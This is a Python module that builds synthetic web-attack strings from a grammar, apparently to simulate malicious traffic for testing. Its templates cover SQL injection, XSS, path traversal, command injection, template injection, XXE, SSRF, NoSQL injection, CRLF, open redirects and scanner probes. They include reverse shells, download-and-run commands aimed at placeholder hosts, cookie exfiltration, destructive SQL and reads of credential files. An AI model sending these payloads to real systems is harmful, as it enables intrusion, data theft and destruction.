"""Attack values by family, from a small grammar written for this project."""

from random import Random

from traffic.grammars.simulate.grammar import Grammar

FAMILIES = (
    "sqli",
    "xss",
    "lfi",
    "cmdi",
    "ssti",
    "xxe",
    "ssrf",
    "nosqli",
    "crlf",
    "redirect",
    "scanner",
)

SQLI = {
    "sqli": (
        "⟨close⟩ ⟨or⟩ ⟨true⟩⟨comment⟩", "⟨close⟩ ⟨or⟩ ⟨true⟩⟨comment⟩", "⟨bare⟩ ⟨or⟩ ⟨true⟩",
        "⟨or⟩ ⟨true⟩; # limit 1", "⟨close⟩ union⟨all⟩ select ⟨columns⟩⟨from⟩⟨comment⟩",
        "⟨bare⟩ union⟨all⟩ select ⟨columns⟩⟨from⟩⟨comment⟩", "⟨close⟩; ⟨stacked⟩⟨comment⟩",
        "⟨bare⟩; ⟨stacked⟩⟨comment⟩", "⟨close⟩ ⟨and⟩ ⟨blind⟩⟨comment⟩",
        "⟨bare⟩ ⟨and⟩ ⟨blind⟩⟨comment⟩", "⟨close⟩ order by ⟨n⟩⟨n⟩⟨comment⟩", "⟨login⟩'⟨comment⟩",
        '⟨login⟩" ⟨comment⟩', "⟨close⟩ ⟨and⟩ ⟨delay⟩⟨comment⟩", "⟨bare⟩;⟨delay⟩⟨comment⟩",
        "'||(⟨subselect⟩)||'", "(⟨delay⟩)",
        "⟨bare⟩' procedure analyse(extractvalue(rand(),concat(0x3a,⟨fact⟩)),1)⟨comment⟩",
        "%' ⟨and⟩ ⟨true⟩ and '%'='",
    ),
    "close": (
        "'", '"', "')", "'))", '")', "⟨number⟩'", "x'", "⟨ident⟩'", "\\'", "-⟨n⟩'", "`)",
        "⟨word⟩'",
    ),
    "bare": ("⟨number⟩", "-⟨n⟩", "⟨n⟩", "0x⟨hex⟩", "⟨number⟩)", "null"),
    "or": ("or", "or", "OR", "||", "xor", "or not"),
    "and": ("and", "AND", "&&", "and not", "or"),
    "true": (
        "⟨n⟩=⟨n⟩", "1=1", "'⟨ident⟩'='⟨ident⟩", "'1'='1", "'a' like 'a", "2>1", "true", '"1"="1',
        "1 in (1)", "⟨n⟩ between 0 and 9", "length('⟨ident⟩')>0", "1=1 limit 1",
    ),
    "comment": ("--", "-- ", "#", "/*", " -- -", ";--", ";%00", "", "--+"),
    "all": ("", "", " all", " distinct"),
    "columns": (
        "null,null,null", "1,2,⟨n⟩", "⟨fact⟩,null", "⟨column⟩,⟨column⟩", "1,⟨fact⟩,3,4",
        "null,concat(⟨column⟩,0x3a,⟨column⟩)", "group_concat(⟨column⟩),2", "*",
    ),
    "column": (
        "username", "password", "email", "passwd", "secret", "token", "card_no", "table_name",
    ),
    "from": (
        "", " from ⟨table⟩", " from ⟨table⟩ where ⟨column⟩ like '%a%'",
        " from ⟨table⟩ limit ⟨n⟩,1",
    ),
    "table": (
        "users", "admin", "accounts", "information_schema.tables", "sqlite_master", "dual",
        "mysql.user", "pg_shadow", "sysobjects", "members", "customers",
    ),
    "fact": ("version()", "@@version", "user()", "database()", "current_user", "@@hostname"),
    "stacked": (
        "drop table ⟨table⟩", "delete from ⟨table⟩", "truncate table ⟨table⟩", "shutdown",
        "update ⟨table⟩ set ⟨column⟩='⟨ident⟩'", "exec xp_cmdshell('⟨command⟩')",
        "insert into ⟨table⟩ values (⟨n⟩,'⟨ident⟩')", "declare @q varchar(99);exec(@q)",
        "copy ⟨table⟩ to program '⟨command⟩'",
    ),
    "subselect": ("select ⟨column⟩ from ⟨table⟩ limit 1", "select ⟨fact⟩"),
    "blind": (
        "substring((⟨subselect⟩),⟨n⟩,1)='⟨n⟩'", "ascii(substr((⟨subselect⟩),⟨n⟩,1))>⟨octet⟩",
        "(select count(*) from ⟨table⟩)>0", "exists(⟨subselect⟩)", "1=(⟨subselect⟩)",
        "updatexml(1,concat(0x7e,⟨fact⟩),1)", "1=convert(int,⟨fact⟩)",
    ),
    "delay": (
        "sleep(⟨n⟩)", "pg_sleep(⟨n⟩)", "waitfor delay '0:0:⟨n⟩'", "benchmark(⟨number⟩000,md5(1))",
        "if(1=1,sleep(⟨n⟩),0)", "(select 1 from (select sleep(⟨n⟩))a)", "select pg_sleep(⟨n⟩)",
        "dbms_pipe.receive_message('⟨ident⟩',⟨n⟩)",
    ),
    "login": ("admin", "root", "administrator", "test", "guest", "operator"),
    "word": ("shoes", "blue", "garden", "lamp", "order", "kids", "paris"),
}  # fmt: skip

XSS = {
    "xss": (
        "<script>⟨js⟩</script>", "<script>⟨js⟩</script>", "⟨break⟩<script>⟨js⟩</script>",
        "⟨break⟩<⟨tag⟩ ⟨event⟩=⟨js⟩>", "<⟨tag⟩ ⟨event⟩='⟨js⟩'>", '<⟨tag⟩ src=x ⟨event⟩="⟨js⟩">',
        "<⟨tag⟩/⟨event⟩=⟨js⟩>", "<⟨tag⟩ ⟨attribute⟩ ⟨event⟩=⟨js⟩>⟨ident⟩</⟨tag⟩>",
        "javascript:⟨js⟩", '<a href="javascript:⟨js⟩">⟨ident⟩</a>',
        "<script src=//⟨evil⟩></script>", "<iframe src=javascript:⟨js⟩></iframe>",
        '" ⟨event⟩="⟨js⟩" x="', "' ⟨event⟩=⟨js⟩ a='", "<svg><script>⟨js⟩</script></svg>",
        "<object data=data:text/html;base64,PHNjcmlwdD4=>", "';⟨js⟩;//", '";⟨js⟩//',
        "</title><script>⟨js⟩</script>", "<img src=`x`⟨event⟩=⟨js⟩>",
        "<math><mi xlink:href=javascript:⟨js⟩>", "<style>@import'//⟨evil⟩/⟨ident⟩.css'</style>",
        "&lt;script&gt;⟨js⟩&lt;/script&gt;", "<scr<script>ipt>⟨js⟩</scr</script>ipt>",
        "<base href=//⟨evil⟩>", "<form action=//⟨evil⟩><button>⟨ident⟩</button></form>",
        "data:text/html,<script>⟨js⟩</script>",
    ),
    "break": ('">', "'>", "-->", "</textarea>", "]]>", '"/>', "⟨ident⟩>"),
    "tag": (
        "img", "svg", "body", "video", "input", "details", "marquee", "audio", "iframe", "select",
        "a", "div", "p", "object", "form", "⟨ident⟩",
    ),
    "event": (
        "onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onpointerenter",
        "onanimationstart", "onbeforeinput", "onwheel", "oncopy", "ondrag", "onblur",
    ),
    "attribute": (
        "autofocus", "src=x", "draggable=true", "contenteditable", "tabindex=⟨n⟩", "open",
    ),
    "js": (
        "alert(⟨n⟩)", "alert(document.cookie)", "confirm`⟨n⟩`", "prompt(document.domain)",
        "fetch('//⟨evil⟩/?c='+document.cookie)", "eval(atob('YWxlcnQoMSk='))",
        "location='//⟨evil⟩/'+document.cookie", "import('//⟨evil⟩/⟨ident⟩.js')",
        "new Image().src='http://⟨evil⟩/'+localStorage.token", "alert(String.fromCharCode(88,83))",
        "top['al'+'ert'](⟨n⟩)", "(alert)(⟨n⟩)", "self[/ale/.source+/rt/.source]()",
        "document.write('<b>⟨ident⟩</b>')", "setTimeout('alert(⟨n⟩)',⟨number⟩)",
    ),
}  # fmt: skip

FILES = {
    "lfi": (
        "⟨climb⟩⟨file⟩", "⟨climb⟩⟨file⟩", "⟨climb⟩⟨file⟩%00", "⟨climb⟩⟨file⟩%00.png", "/⟨file⟩",
        "file:///⟨file⟩", "php://filter/convert.base64-encode/resource=⟨ident⟩.php",
        "⟨ident⟩/⟨climb⟩⟨file⟩", "/var/www/⟨ident⟩/⟨climb⟩⟨file⟩", "⟨winclimb⟩⟨winfile⟩",
        "c:\\⟨winfile⟩", "expect://⟨command⟩", "zip://⟨ident⟩.zip#⟨ident⟩", "/proc/self/environ",
        "php://input", "\\\\⟨evil⟩\\share\\⟨ident⟩",
    ),
    "climb": (
        "../../", "../../../", "../../../../", "../../../../../../", "....//....//....//",
        "..%2f..%2f..%2f", "%2e%2e/%2e%2e/%2e%2e/", "..%252f..%252f", "..;/..;/",
        "..%c0%af..%c0%af", "/../../../../../", "./.././../../", "..///..///..///",
    ),
    "winclimb": ("..\\..\\", "..\\..\\..\\..\\", "..%5c..%5c..%5c", "....\\\\....\\\\"),
    "file": (
        "etc/passwd", "etc/shadow", "etc/hosts", "proc/self/environ", "root/.ssh/id_rsa",
        "var/log/apache2/access.log", "etc/nginx/nginx.conf", "home/⟨ident⟩/.bash_history",
        "WEB-INF/web.xml", ".env", "app/config/database.yml", "proc/version", "etc/group",
    ),
    "winfile": ("windows\\win.ini", "boot.ini", "windows\\system32\\drivers\\etc\\hosts"),
}  # fmt: skip

COMMANDS = {
    "cmdi": (
        "⟨lure⟩; ⟨command⟩", "⟨lure⟩ | ⟨command⟩", "⟨lure⟩ && ⟨command⟩", "⟨lure⟩ || ⟨command⟩",
        "`⟨command⟩`", "$(⟨command⟩)", "⟨lure⟩\n⟨command⟩", "|⟨command⟩", ";⟨command⟩;",
        "⟨lure⟩$(⟨command⟩)", "⟨lure⟩ & ⟨command⟩ &", "a;⟨command⟩|⟨command⟩", "'; ⟨command⟩ #",
        '";⟨command⟩;"', "() { :;}; ⟨command⟩", "%0a⟨command⟩", "⟨lure⟩;⟨command⟩>/tmp/⟨ident⟩",
        "{⟨tool⟩,-c,⟨n⟩}", "system('⟨command⟩')", "<?php system('⟨command⟩'); ?>",
        "__import__('os').system('⟨command⟩')", "require('child_process').exec('⟨command⟩')",
    ),
    "lure": ("127.0.0.1", "⟨ident⟩", "⟨ident⟩.txt", "⟨number⟩", "", "localhost", "report.pdf"),
    "tool": ("ping", "curl", "bash", "sh"),
    "command": (
        "id", "whoami", "cat /etc/passwd", "ls -la /", "uname -a", "sleep ⟨n⟩",
        "ping -c ⟨n⟩ ⟨evil⟩", "curl http://⟨evil⟩/⟨ident⟩.sh|sh", "wget -qO- ⟨evil⟩/⟨ident⟩|bash",
        "nc -e /bin/sh ⟨evil⟩ 4444", "cat${IFS}/etc/passwd",
        "bash -i >& /dev/tcp/⟨evil⟩/⟨number⟩ 0>&1", "net user", "dir c:\\",
        "nslookup ⟨ident⟩.⟨evil⟩", "rm -rf /tmp/⟨ident⟩", "echo ⟨ident⟩|base64 -d|sh", "env",
        "powershell -enc SQBFAFgA", "python3 -c 'import os;os.system(\"id\")'", "c''at /e??/p??s*",
    ),
    "evil": (
        "evil.example", "⟨ident⟩.evil.example", "198.51.100.⟨octet⟩", "203.0.113.⟨octet⟩",
        "⟨ident⟩.oob.test",
    ),
}  # fmt: skip

INJECTIONS = {
    "ssti": (
        "{{⟨sum⟩}}", "${⟨sum⟩}", "<%= ⟨sum⟩ %>", "#{⟨sum⟩}", "{{⟨object⟩}}", "*{⟨sum⟩}",
        "@(⟨sum⟩)", "{{⟨object⟩.__class__.__mro__[⟨n⟩].__subclasses__()}}",
        "${jndi:⟨jndi⟩://⟨evil⟩/⟨ident⟩}", "${${lower:j}ndi:⟨jndi⟩://⟨evil⟩:1389/⟨ident⟩}",
        "{{cycler.__init__.__globals__.os.popen('⟨command⟩').read()}}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
        '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("⟨command⟩")}',
        "#set($e=$class.inspect('java.lang.Runtime'))", "{{['⟨command⟩']|filter('system')}}",
        "${T(java.lang.Runtime).getRuntime().exec('⟨command⟩')}", "{{=⟨sum⟩}}", "[[${⟨sum⟩}]]",
        "{php}echo `⟨command⟩`;{/php}", "{{constructor.constructor('return process')()}}",
    ),
    "sum": ("7*7", "⟨n⟩*⟨n⟩", "⟨number⟩-⟨number⟩", "'7'*7", "⟨n⟩⟨n⟩*⟨n⟩⟨n⟩"),
    "object": ("config", "self", "request.application", "''", "settings.SECRET_KEY", "lipsum"),
    "jndi": ("ldap", "rmi", "dns", "ldaps"),
    "xxe": (
        '<?xml version="1.0"?><!DOCTYPE ⟨ident⟩ [<!ENTITY ⟨ident⟩ SYSTEM '
        '"⟨entity⟩">]><⟨ident⟩>&⟨ident⟩;</⟨ident⟩>',
        '<!DOCTYPE ⟨ident⟩ [<!ENTITY % ⟨ident⟩ SYSTEM "⟨entity⟩"> %⟨ident⟩;]><order/>',
        '<!DOCTYPE order PUBLIC "-//⟨ident⟩" "⟨entity⟩"><order><id>⟨number⟩</id></order>',
        '<order xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" '
        'href="⟨entity⟩"/></order>',
        '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c '
        '"&b;&b;&b;">]><l>&c;</l>',
        '<svg xmlns="http://www.w3.org/2000/svg"><image href="⟨entity⟩"/></svg>',
    ),
    "entity": (
        "file:///⟨file⟩", "http://⟨evil⟩/⟨ident⟩.dtd", "⟨inside⟩", "php://filter/resource=⟨file⟩",
    ),
    "ssrf": (
        "⟨inside⟩", "⟨inside⟩", "gopher://127.0.0.1:⟨number⟩/_⟨ident⟩",
        "dict://127.0.0.1:11211/stat", "file:///⟨file⟩", "http://⟨evil⟩@127.0.0.1/",
        "ldap://127.0.0.1/⟨ident⟩", "http://127.0.0.1.nip.example:⟨number⟩/",
    ),
    "inside": (
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://[::1]:⟨number⟩/", "http://169.254.169.254/computeMetadata/v1/instance/",
        "http://127.0.0.1:⟨number⟩/⟨ident⟩", "http://localhost:⟨number⟩/admin",
        "http://0x7f000001/", "http://2130706433/⟨ident⟩",
        "http://10.0.0.⟨octet⟩:2375/containers/json", "http://192.168.⟨octet⟩.⟨octet⟩/",
        "http://0/",
    ),
    "nosqli": (
        "' || '⟨n⟩'=='⟨n⟩", "'; return true; var x='", '{"$gt": ""}', '{"$ne": null}',
        "true, $where: '1 == 1'", "' && this.⟨column⟩.match(/^⟨ident⟩/) || 'a'=='b", "[$ne]=⟨n⟩",
        '"}, {"$or": [{}, {"a": "a', "';sleep(⟨number⟩);'", "'; while(true){}; '", "||1==1//",
        "{$regex: '.*'}", "db.⟨table⟩.drop()", "this.⟨column⟩ != null || '",
    ),
    "nosqli_object": (
        '{"$gt":""}', '{"$ne":null}', '{"$ne":"⟨ident⟩"}', '{"$regex":"^⟨ident⟩"}',
        '{"$regex":".*"}', '{"$where":"sleep(⟨number⟩)"}', '{"$in":["admin","root",null]}',
        '{"$exists":true}', '{"$nin":[]}', '{"$or":[{},{"⟨ident⟩":"⟨ident⟩"}]}',
        '{"$where":"this.⟨column⟩.length>⟨n⟩"}', '{"__proto__":{"isAdmin":true}}',
        '{"constructor":{"prototype":{"⟨ident⟩":true}}}',
    ),
    "crlf": (
        "⟨lure⟩⟨newline⟩Set-Cookie: ⟨ident⟩=⟨hex⟩", "⟨lure⟩⟨newline⟩Location: http://⟨evil⟩/",
        "⟨newline⟩⟨newline⟩<script>⟨js⟩</script>", "⟨lure⟩⟨newline⟩X-⟨ident⟩: ⟨n⟩",
        "⟨lure⟩⟨newline⟩HTTP/1.1 200 OK⟨newline⟩Content-Length: ⟨n⟩",
        "⟨newline⟩Bcc: ⟨ident⟩@⟨evil⟩",
        "⟨lure⟩⟨newline⟩Content-Type: text/html⟨newline⟩⟨newline⟩<b>⟨ident⟩",
    ),
    "newline": ("\r\n", "%0d%0a", "%0D%0A", "\\r\\n", "%E5%98%8A%E5%98%8D", "%0a", "\n"),
    "redirect": (
        "//⟨evil⟩", "https://⟨evil⟩/login", "/\\⟨evil⟩", "///⟨evil⟩/%2f..", "https:⟨evil⟩",
        "http://shop.example@⟨evil⟩", "//⟨evil⟩/%2e%2e", "https://shop.example.⟨evil⟩/⟨ident⟩",
        "//%09/⟨evil⟩", "javascript://⟨evil⟩/%0a⟨js⟩", "http://⟨evil⟩#shop.example", "\\\\⟨evil⟩",
        "https://⟨evil⟩?next=shop.example", "//google.example%00.⟨evil⟩",
    ),
    "scanner": (
        "/.env", "/.git/config", "/wp-login.php", "/wp-admin/setup-config.php",
        "/phpmyadmin/index.php", "/actuator/env", "/actuator/heapdump", "/.aws/credentials",
        "/server-status", "/cgi-bin/⟨ident⟩.cgi", "/backup/⟨ident⟩.sql.gz", "/⟨ident⟩.php.bak",
        "/.svn/entries", "/manager/html", "/solr/admin/info",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/.DS_Store", "/config.php~",
        "/shell.php", "/boaform/admin/formLogin", "/HNAP1/", "/xmlrpc.php", "/console/",
        "/_ignition/execute-solution", "/wp-content/plugins/⟨ident⟩/readme.txt",
        "/admin.php?cmd=⟨ident⟩", "/id_rsa", "/dump.sql", "/.vscode/sftp.json",
        "/telescope/requests", "/owa/auth/logon.aspx", "/autodiscover.xml",
        "/cgi-bin/luci/;stok=/locale", "/⟨ident⟩/.git/HEAD", "/web.config", "/.htpasswd",
        "/hudson/script",
    ),
}  # fmt: skip

GRAMMAR = Grammar(SQLI | XSS | FILES | COMMANDS | INJECTIONS)
SQL_SPACES = ("/**/", "+", "\t", "\n", "  ", "%0b", "/*⟨ident⟩*/")


def attack(rng: Random, family: str) -> str:
    """One attack value of ``family`` (one of FAMILIES, or ``nosqli_object``: a JSON object)."""
    value = GRAMMAR.expand(rng, family)
    if family == "sqli" and rng.random() < 0.2:
        value = value.replace(" ", GRAMMAR.fill(rng, rng.choice(SQL_SPACES)))
    if family in ("sqli", "xss") and rng.random() < 0.25:
        value = _mixed_case(rng, value)
    return value


def _mixed_case(rng: Random, value: str) -> str:
    if rng.random() < 0.5:
        return value.upper()
    return "".join(c.upper() if rng.random() < 0.5 else c for c in value)
